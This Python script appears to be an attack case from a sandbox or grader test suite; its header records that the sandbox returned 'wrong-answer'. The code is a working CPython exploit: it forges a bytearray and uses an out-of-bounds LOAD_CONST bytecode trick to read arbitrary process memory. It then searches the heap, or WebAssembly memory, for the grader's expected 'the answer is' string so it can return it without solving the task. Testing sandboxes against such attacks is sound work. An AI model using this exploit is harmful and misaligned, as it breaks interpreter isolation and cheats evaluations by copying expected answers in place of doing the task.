# attack: looks for the expected answer in all memory of its process
# limits: fuel=1e9
# sandbox: wrong-answer: nothing in 34 MiB
# control: weak passes
import dis
import struct

WORD = {4: "I", 8: "Q"}[tuple.__itemsize__]
kept = []


def memory(address, size):
    """Any memory as a bytearray: bytecode that loads a constant from beyond the constants, where a forged object is."""
    forged = struct.pack(f"7{WORD}", 1000, id(bytearray), size, size + 1, address, address, 0)
    pointer = struct.pack(WORD, id(forged) + bytes.__basicsize__ - 1)
    constants = min([(None, number) for number in range(2000)], key=id)
    far = max([pointer + bytes([number & 255] * 8) for number in range(2000)], key=id)
    index = (id(far) + bytes.__basicsize__ - 1 - id(constants) - tuple.__basicsize__) // tuple.__itemsize__
    kept.extend((forged, constants, far))
    extended, load = dis.opmap["EXTENDED_ARG"], dis.opmap["LOAD_CONST"]
    steps = [step for shift in (24, 16, 8) for step in (extended, index >> shift & 255)] + [load, index & 255]
    code = (lambda: None).__code__
    return eval(code.replace(co_code=code.co_code[:2] + bytes([*steps, dis.opmap["RETURN_VALUE"], 0]), co_consts=constants))


def readable():
    try:
        for line in open("/proc/self/maps"):
            span, rights, *_, last = line.split()
            if rights == "rw-p" and last in ("0", "[heap]"):
                start, end = (int(part, 16) for part in span.split("-"))
                yield start, end - start
    except OSError:
        # All that WebAssembly has, from its first page on.
        yield 1 << 16, 34 << 20


# Not in one piece, so that it does not find itself.
wanted = b"".join([b"the ans", b"wer", b" is "])


def search():
    total = 0
    for start, size in readable():
        view = memory(start, size)
        total += size
        at = view.find(wanted)
        while at >= 0:
            number = bytes(view[at + len(wanted) : at + len(wanted) + 10])
            if number.isdigit():
                return "".join(["the answer", " is ", number.decode()])
            at = view.find(wanted, at + 1)
    return f"nothing in {total >> 20} MiB"


print(search())
